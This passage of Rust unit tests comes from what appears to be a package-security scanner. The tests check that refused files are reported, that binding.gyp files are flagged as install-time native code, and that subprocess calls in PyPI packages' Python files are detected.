            ("package.json", br#"{"name":"x","version":"1.0.0"}"#),
            ("deep.js", deep.as_bytes()),
        ]);
        let report = scan(&t, Ecosystem::Npm);
        assert!(
            report.files_failed.iter().any(|e| e.path == "deep.js"),
            "a file the analyser refuses must be reported: {:?}",
            report.files_failed
        );
    }

    #[test]
    fn implicit_gyp_install_marks_native_code() {
        let t = tree(&[
            ("package.json", br#"{"name":"x","version":"1.0.0"}"#),
            ("binding.gyp", b"{ 'targets': [] }"),
        ]);
        let facts = build_facts(&t, Ecosystem::Npm);
        assert_eq!(facts.install_scripts.len(), 1);
        let gyp = facts.file("binding.gyp").unwrap();
        let caps: BTreeSet<Capability> = gyp.uses.iter().map(|u| u.capability).collect();
        assert!(
            caps.contains(&Capability::NativeCode) && caps.contains(&Capability::InstallScript)
        );
        assert!(facts.install_time_files.contains("binding.gyp"));
    }

    #[test]
    fn python_files_of_pypi_packages_are_analysed() {
        let t = tree(&[
            (
                "demo/__init__.py",
                b"import subprocess as sp\nsp.run(['id'])\n",
            ),
            ("demo/data.txt", b"import subprocess"),
        ]);
        let facts = build_facts(&t, Ecosystem::PyPI);
        let py = facts.file("demo/__init__.py").unwrap();
        assert_eq!(py.kind, FileKind::Python);
        assert_eq!(py.status, ParseStatus::Parsed);
        assert!(py.uses.iter().any(|u| u.api == "subprocess.run"));
        assert!(facts.file("demo/data.txt").unwrap().uses.is_empty());
        // The same file in an npm package is not Python analysis's business.
        let facts = build_facts(&t, Ecosystem::Npm);
        assert!(facts.file("demo/__init__.py").unwrap().uses.is_empty());
    }
}
